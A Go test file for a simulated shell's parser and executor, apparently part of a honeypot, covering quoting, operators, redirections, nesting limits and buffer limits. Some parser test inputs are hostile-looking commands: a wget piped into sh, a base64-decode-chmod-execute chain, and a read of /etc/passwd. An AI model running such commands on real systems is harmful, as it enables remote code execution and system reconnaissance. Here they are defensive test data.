@@ -0,0 +1,281 @@
+package main
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+)
+
+// 以紧凑的形式输出语法树 用于比较
+// 简单命令为[参数...] 引号中的部分加"" 变量为${name} 命令替换为$(...)
+func formatShellList(list *shellList) string {
+	var result strings.Builder
+	for i, item := range list.items {
+		if i > 0 {
+			result.WriteString(" " + item.operator + " ")
+		}
+		if item.pipeline.negate {
+			result.WriteString("! ")
+		}
+		for j, command := range item.pipeline.commands {
+			if j > 0 {
+				result.WriteString(" | ")
+			}
+			switch command := command.(type) {
+			case *simpleCommand:
+				var fields []string
+				for _, assignment := range command.assignments {
+					fields = append(fields, assignment.name+"="+formatShellWord(assignment.value))
+				}
+				for _, word := range command.words {
+					fields = append(fields, formatShellWord(word))
+				}
+				result.WriteString("[" + strings.Join(fields, " ") + "]")
+			case *subshellCommand:
+				result.WriteString("(" + formatShellList(command.list) + ")")
+			}
+			for _, redirect := range command.redirections() {
+				result.WriteString(fmt.Sprintf(" %v%v%v", redirect.fd, redirect.op, formatShellWord(redirect.target)))
+			}
+		}
+	}
+	return result.String()
+}
+
+func formatShellWord(word shellWord) string {
+	var result strings.Builder
+	for _, part := range word {
+		var text string
+		switch part.kind {
+		case literalPart:
+			text = part.text
+		case variablePart:
+			text = "${" + part.text + "}"
+		case substitutionPart:
+			text = "$(" + formatShellList(part.list) + ")"
+		}
+		if part.quoted {
+			text = `"` + text + `"`
+		}
+		result.WriteString(text)
+	}
+	return result.String()
+}
+
+func TestParseShell(t *testing.T) {
+	tests := []struct {
+		input string
+		want  string
+	}{
+		{`ls -la /tmp`, `[ls -la /tmp]`},
+		{`  ls   -la  `, `[ls -la]`},
+		{`echo "a b" | base64 -d > /tmp/x && chmod +x /tmp/x; ./x`, `[echo "a b"] | [base64 -d] 1>/tmp/x && [chmod +x /tmp/x] ; [./x]`},
+		// 引号和转义
+		{`echo 'it''s' a\ b "x\"y"`, `[echo "it""s" a" "b "x"y"]`},
+		{`echo '$HOME' "$HOME" $HOME ${HOME}x`, `[echo "$HOME" "${HOME}" ${HOME} ${HOME}x]`},
+		{`echo "a 'b' c" 'a "b" c'`, `[echo "a 'b' c" "a "b" c"]`},
+		{`echo a"b"c`, `[echo a"b"c]`},
+		{"echo a\\\nb", `[echo ab]`},
+		// 运算符
+		{`false || echo fail && echo ok`, `[false] || [echo fail] && [echo ok]`},
+		{`a;b;c`, `[a] ; [b] ; [c]`},
+		{"a\nb\n\nc", `[a] ; [b] ; [c]`},
+		{`a&&b||c`, `[a] && [b] || [c]`},
+		{`cat /etc/passwd|grep root|wc -l`, `[cat /etc/passwd] | [grep root] | [wc -l]`},
+		{"a &&\n b", `[a] && [b]`},
+		{`wget http://x/y -O- | sh &`, `[wget http://x/y -O-] | [sh]`},
+		{`a & b`, `[a] ; [b]`},
+		{`! true`, `! [true]`},
+		{"echo a # comment\necho b", `[echo a] ; [echo b]`},
+		{`echo a#b`, `[echo a#b]`},
+		// 重定向
+		{`cat < in 2>&1 >> out`, `[cat] 0<in 2>&1 1>>out`},
+		{`echo x>/dev/null 2>/dev/null`, `[echo x] 1>/dev/null 2>/dev/null`},
+		{`cmd &> all`, `[cmd] -1>all`},
+		{`cmd &>> all`, `[cmd] -1>>all`},
+		{`cmd >| f 0<&3`, `[cmd] 1>f 0<&3`},
+		{`echo 2 > f`, `[echo 2] 1>f`},
+		{`> f echo x`, `[echo x] 1>f`},
+		// 子shell 命令替换和赋值
+		{`(cd /tmp; ls) | wc -l`, `([cd /tmp] ; [ls]) | [wc -l]`},
+		{`(a) > f`, `([a]) 1>f`},
+		{"echo $(uname -a) `id -u` \"$(whoami)\"", `[echo $([uname -a]) $([id -u]) "$([whoami])"]`},
+		{`echo $(echo $(echo nested))`, `[echo $([echo $([echo nested])])]`},
+		{`A=1 B="2 3" env`, `[A=1 B="2 3" env]`},
+		{`X=$(id)`, `[X=$([id])]`},
+		{``, ``},
+		{"\n\n", ``},
+	}
+	for _, test := range tests {
+		list, err := parseShell(test.input)
+		if err != nil {
+			t.Errorf("parseShell(%q): %v", test.input, err)
+			continue
+		}
+		if got := formatShellList(list); got != test.want {
+			t.Errorf("parseShell(%q)\n got: %v\nwant: %v", test.input, got, test.want)
+		}
+	}
+}
+
+func TestParseShellErrors(t *testing.T) {
+	tests := []struct {
+		input string
+		err   error
+	}{
+		{`echo "abc`, errIncompleteInput},
+		{`echo 'abc`, errIncompleteInput},
+		{`echo a &&`, errIncompleteInput},
+		{`echo a ||`, errIncompleteInput},
+		{`echo a |`, errIncompleteInput},
+		{`(echo`, errIncompleteInput},
+		{`echo $(ls`, errIncompleteInput},
+		{"echo `ls", errIncompleteInput},
+		{`echo a ;; b`, shellSyntaxError{";;"}},
+		{`| ls`, shellSyntaxError{"|"}},
+		{`&& ls`, shellSyntaxError{"&&"}},
+		{`;`, shellSyntaxError{";"}},
+		{`echo >`, shellSyntaxError{"newline"}},
+		{`echo )`, shellSyntaxError{")"}},
+		{`ls > |`, shellSyntaxError{"|"}},
+		// 嵌套层数超过上限
+		{strings.Repeat("(", maxShellDepth+1) + "ls" + strings.Repeat(")", maxShellDepth+1), shellSyntaxError{"("}},
+		{"echo " + strings.Repeat("$(", maxShellDepth+1) + "ls" + strings.Repeat(")", maxShellDepth+1), shellSyntaxError{"("}},
+		{"echo " + strings.Repeat("$(", maxShellDepth) + "`ls`" + strings.Repeat(")", maxShellDepth), shellSyntaxError{"`"}},
+		{strings.Repeat("(", 200000), shellSyntaxError{"("}},
+	}
+	for _, test := range tests {
+		_, err := parseShell(test.input)
+		if err != test.err {
+			t.Errorf("parseShell(%q): err = %#v, want %#v", test.input, err, test.err)
+		}
+	}
+}
+
+// n层嵌套的反引号 内层的反引号和反斜杠需要转义 长度随层数指数增长
+func nestedBackticks(n int) string {
+	script := "ls"
+	for i := 0; i < n; i++ {
+		script = "echo `" + strings.NewReplacer("\\", "\\\\", "`", "\\`").Replace(script) + "`"
+	}
+	return script
+}
+
+func TestParseShellNestingLimit(t *testing.T) {
+	for _, input := range []string{
+		strings.Repeat("(", maxShellDepth) + "ls" + strings.Repeat(")", maxShellDepth),
+		"echo " + strings.Repeat("$(", maxShellDepth) + "ls" + strings.Repeat(")", maxShellDepth),
+		nestedBackticks(10),
+		"echo " + strings.Repeat("$(", maxShellDepth-1) + "`ls`" + strings.Repeat(")", maxShellDepth-1),
+	} {
+		if _, err := parseShell(input); err != nil {
+			t.Errorf("parseShell(%.40q...): %v", input, err)
+		}
+	}
+	// 解析时间与输入长度成正比
+	start := time.Now()
+	parseShell("echo " + strings.Repeat("a ", 100000) + strings.Repeat("b", 100000))
+	if elapsed := time.Since(start); elapsed > 2*time.Second {
+		t.Errorf("parsing 300 KB took %v", elapsed)
+	}
+}
+
+// 在模拟的shell中执行脚本 返回stdout stderr和退出状态
+func runTestScript(t *testing.T, session *shellSession, script string) (string, string, uint32) {
+	t.Helper()
+	var stdout, stderr strings.Builder
+	context := commandContext{stdin: newPipeReadLiner(nil), stdout: &stdout, stderr: &stderr, session: session}
+	status, err := context.runScript(script)
+	if exit, ok := err.(shellExit); ok {
+		status, err = exit.status, nil
+	}
+	if err != nil {
+		t.Fatalf("%q: %v", script, err)
+	}
+	return stdout.String(), stderr.String(), status
+}
+
+func newTestShellSession(cfg *config) *shellSession {
+	return newShellSession(newTestChannelContext(cfg))
+}
+
+func TestShellExpansionAndExecution(t *testing.T) {
+	tests := []struct {
+		script string
+		stdout string
+		status uint32
+	}{
+		{`echo "a  b"   c`, "a  b c\n", 0},
+		{`X="1  2"; echo $X; echo "$X"`, "1 2\n1  2\n", 0},
+		{`X=' a  b '; echo [$X] "[$X]"`, "[ a b ] [ a  b ]\n", 0},
+		{`X=; echo a $X b "$X" c`, "a b  c\n", 0},
+		{`X=a; echo ${X}b '$X' \$X`, "ab $X $X\n", 0},
+		{`echo ~ ~/x "~"`, "/root /root/x ~\n", 0},
+		{`cd /tmp && pwd`, "/tmp\n", 0},
+		{`(cd /tmp); pwd`, "/root\n", 0},
+		{`X=1; (X=2); echo $X`, "1\n", 0},
+		{`echo $(echo a b)c`, "a bc\n", 0},
+		{"echo `echo hi`", "hi\n", 0},
+		{`echo "$(echo a; echo; echo)"`, "a\n", 0},
+		{`false && echo no; echo $?`, "1\n", 0},
+		{`false || echo yes`, "yes\n", 0},
+		{`true && echo a || echo b`, "a\n", 0},
+		{`false && echo a || echo b`, "b\n", 0},
+		{`! false; echo $?`, "0\n", 0},
+		{`false; true | false`, "", 1},
+		{`echo hello | cat | cat`, "hello\n", 0},
+		{`echo a | exit 2; echo $?`, "2\n", 0},
+		{`echo abc > /tmp/f; cat /tmp/f`, "abc\n", 0},
+		{`echo 1 > /tmp/f; echo 2 >> /tmp/f; cat < /tmp/f`, "1\n2\n", 0},
+		{`cat /nonexistent 2>&1 | cat`, "cat: /nonexistent: No such file or directory\n", 0},
+		{`cat /nonexistent 2>&1 >/dev/null | cat`, "cat: /nonexistent: No such file or directory\n", 0},
+		{`cat /nonexistent >/dev/null 2>&1 | cat`, "", 0},
+		{`cat /nonexistent 2>/dev/null; echo $?`, "1\n", 0},
+		{`(echo a; echo b) > /tmp/g; cat /tmp/g`, "a\nb\n", 0},
+		{`exit 3`, "", 3},
+	}
+	cfg := newTestConfig(t, "recording:\n  enabled: false\n")
+	for _, test := range tests {
+		stdout, stderr, status := runTestScript(t, newTestShellSession(cfg), test.script)
+		if stdout != test.stdout || status != test.status {
+			t.Errorf("%q: stdout = %q, status = %v, want %q, %v (stderr %q)", test.script, stdout, status, test.stdout, test.status, stderr)
+		}
+	}
+}
+
+// 管道 命令替换和变量的长度有上限 超过时命令失败
+func TestShellBufferLimits(t *testing.T) {
+	cfg := newTestConfig(t, "recording:\n  enabled: false\n")
+	session := newTestShellSession(cfg)
+	script := "a=xxxxxxxx" + strings.Repeat("; a=$a$a", 24) + "; echo $?"
+	stdout, stderr, _ := runTestScript(t, session, script)
+	if stdout != "1\n" || !strings.Contains(stderr, "sh: memory exhausted") {
+		t.Errorf("doubling: stdout %q, stderr %.100q", stdout, stderr)
+	}
+	size := len(session.vars["a"])
+	if size > maxShellBuffer || size < maxShellBuffer/2 {
+		t.Errorf("len($a) = %v, want at most %v", size, maxShellBuffer)
+	}
+	tests := []struct {
+		script string
+		size   int // 标准输出的长度
+		status uint32
+	}{
+		{`b=$a`, 0, 1},
+		{`echo $a $a`, 0, 1},
+		{`echo $a $a | cat`, 0, 1},
+		// 子shell中第二个echo失败 管道继续执行
+		{`(echo $a; echo $a) | cat`, size + 1, 0},
+		{`echo "$(echo $a; echo $a)" > /dev/null; echo $?`, 2, 0},
+	}
+	for _, test := range tests {
+		stdout, stderr, status := runTestScript(t, session, test.script)
+		if len(stdout) != test.size || status != test.status || !strings.Contains(stderr, "sh: memory exhausted") {
+			t.Errorf("%q: %v bytes of output, status = %v, want %v, %v (stderr %.100q)", test.script, len(stdout), status, test.size, test.status, stderr)
+		}
+	}
+	if _, ok := session.vars["b"]; ok {
+		t.Error("variable over the limit was assigned")
+	}
+}